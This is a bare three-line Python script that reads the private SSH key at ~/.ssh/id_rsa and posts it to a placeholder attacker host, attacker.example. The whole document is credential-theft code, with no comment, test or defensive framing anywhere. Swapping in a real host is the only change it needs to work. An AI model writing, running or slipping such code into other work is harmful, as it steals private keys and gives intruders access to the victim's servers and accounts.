import os, urllib.request
key = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()
urllib.request.urlopen(urllib.request.Request('http://attacker.example/k', data=key, method='POST'))
